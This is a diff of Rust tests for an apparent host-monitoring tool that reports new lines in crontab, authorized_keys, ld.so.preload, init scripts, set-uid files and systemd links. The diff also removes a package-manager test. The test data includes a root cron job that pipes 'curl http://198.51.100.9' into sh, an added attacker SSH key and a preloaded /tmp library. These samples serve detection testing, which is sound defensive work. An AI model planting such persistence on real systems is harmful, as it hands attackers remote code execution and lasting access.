@@ -1,19 +1,12 @@
 //! Changes of real files, told line by line.
 
 use super::*;
-use picket_common::event::{Ancestor, FileAction, FileEvent};
-use picket_common::process::ProcessId;
+use picket_common::event::{FileAction, FileEvent};
 use std::fs;
 
-fn seen(path: &str, content: &Path, writer: Option<&str>) -> FileSeen {
-    let mut event = FileEvent::new(path, FileAction::Written);
-    event.writer = writer.map(|executable| {
-        let mut program = Program::unknown(ProcessId { pid: 7, start: 8 });
-        program.executable = Some(executable.into());
-        Box::new(program)
-    });
+fn seen(path: &str, content: &Path) -> FileSeen {
     FileSeen {
-        event,
+        event: FileEvent::new(path, FileAction::Written),
         file: Some(File::open(content).unwrap().into()),
     }
 }
@@ -35,26 +28,26 @@ fn only_what_is_new_is_told_and_how_much_is_gone() {
         "ssh-ed25519 AAAA eve@home\n",
     )
     .unwrap();
-    let mut changes = Changes::of_host(root);
+    let mut changes = Changes::of_host(root, |_, _| ());
 
     let crontab = root.join("etc/crontab");
-    assert_eq!(changes.find(&seen("/etc/crontab", &crontab, None)), None);
+    assert_eq!(changes.find(&seen("/etc/crontab", &crontab)), None);
     fs::write(
         &crontab,
         "# a\n1 * * * * root /bin/a\n\n* * * * * root curl http://198.51.100.9 | sh\n",
     )
     .unwrap();
-    let change = changes.find(&seen("/etc/crontab", &crontab, None)).unwrap();
+    let change = changes.find(&seen("/etc/crontab", &crontab)).unwrap();
     assert_eq!(change.kind, ChangeKind::Cron);
     assert_eq!(change.added, ["* * * * * root curl http://198.51.100.9 | sh"]);
     assert_eq!((change.added_count, change.removed_count), (1, 1));
     // It is known from then on.
-    assert_eq!(changes.find(&seen("/etc/crontab", &crontab, None)), None);
+    assert_eq!(changes.find(&seen("/etc/crontab", &crontab)), None);
 
     let keys = root.join("home/eve/.ssh/authorized_keys");
     fs::write(&keys, "ssh-ed25519 AAAA eve@home\nssh-ed25519 BBBB mallory\n").unwrap();
     let change = changes
-        .find(&seen("/home/eve/.ssh/authorized_keys", &keys, None))
+        .find(&seen("/home/eve/.ssh/authorized_keys", &keys))
         .unwrap();
     assert_eq!(
         (change.added, change.removed_count),
@@ -63,30 +56,12 @@ fn only_what_is_new_is_told_and_how_much_is_gone() {
 
     let new = root.join("etc/ld.so.preload");
     fs::write(&new, "/tmp/x.so\n").unwrap();
-    let change = changes.find(&seen("/etc/ld.so.preload", &new, None)).unwrap();
+    let change = changes.find(&seen("/etc/ld.so.preload", &new)).unwrap();
     assert_eq!(
         (change.kind, change.added),
         (ChangeKind::Preload, vec!["/tmp/x.so".into()])
     );
-    assert_eq!(changes.find(&seen("/srv/file", &new, None)), None);
-}
-
-#[test]
-fn what_installs_packages_is_known_by_where_it_lies_and_by_who_started_it() {
-    let file = tempfile::NamedTempFile::new().unwrap();
-    fs::write(file.path(), "x").unwrap();
-    let find = |seen: &FileSeen| Changes::new().find(seen).unwrap().package_manager;
-    let mut by_script = seen("/etc/cron.d/x", file.path(), Some("/usr/bin/dash"));
-    assert!(find(&seen("/etc/cron.d/x", file.path(), Some("/usr/bin/dpkg"))));
-    assert!(!find(&seen("/etc/cron.d/x", file.path(), Some("/tmp/dpkg"))));
-    assert!(!find(&seen("/etc/cron.d/x", file.path(), None)));
-    assert!(!find(&by_script));
-    by_script.event.writer.as_mut().unwrap().ancestors = vec![Ancestor {
-        process: ProcessId { pid: 1, start: 1 },
-        executable: Some("/usr/bin/dpkg".into()),
-        command_line: None,
-    }];
-    assert!(find(&by_script));
+    assert_eq!(changes.find(&seen("/srv/file", &new)), None);
 }
 
 #[test]
@@ -99,19 +74,15 @@ fn long_files_programs_links_and_set_uid_files_are_told_of_without_lines() {
         (b"\x7fELF\0".to_vec(), "no text"),
     ] {
         fs::write(&path, content).unwrap();
-        let change = changes.find(&seen("/etc/init.d/x", &path, None)).unwrap();
+        let change = changes.find(&seen("/etc/init.d/x", &path)).unwrap();
         assert!(change.unknown.unwrap().contains(why));
         assert_eq!((change.added.len(), change.added_count), (0, 0));
     }
-    let mut set_uid = seen("/usr/local/bin/x", &path, None);
+    let mut set_uid = seen("/usr/local/bin/x", &path);
     assert_eq!(changes.find(&set_uid), None);
     set_uid.event.mode = Some(0o4755);
     assert_eq!(changes.find(&set_uid).unwrap().kind, ChangeKind::SetUid);
-    let mut link = seen(
-        "/etc/systemd/system/multi-user.target.wants/x.service",
-        &path,
-        None,
-    );
+    let mut link = seen("/etc/systemd/system/multi-user.target.wants/x.service", &path);
     (link.event.target, link.file) = (Some("/tmp/x.service".into()), None);
     let change = changes.find(&link).unwrap();
     assert_eq!((change.kind, change.unknown), (ChangeKind::Systemd, None));
@@ -125,9 +96,7 @@ fn memory_is_bounded() {
     let content: String = (0..10_000).map(|at| format!("{at}\n")).collect();
     fs::write(&path, content).unwrap();
     for at in 0..100 {
-        let change = changes
-            .find(&seen(&format!("/etc/cron.d/{at}"), &path, None))
-            .unwrap();
+        let change = changes.find(&seen(&format!("/etc/cron.d/{at}"), &path)).unwrap();
         assert_eq!((change.added.len(), change.added_count), (TOLD, 10_000));
         assert!(changes.lines <= LINES);
     }
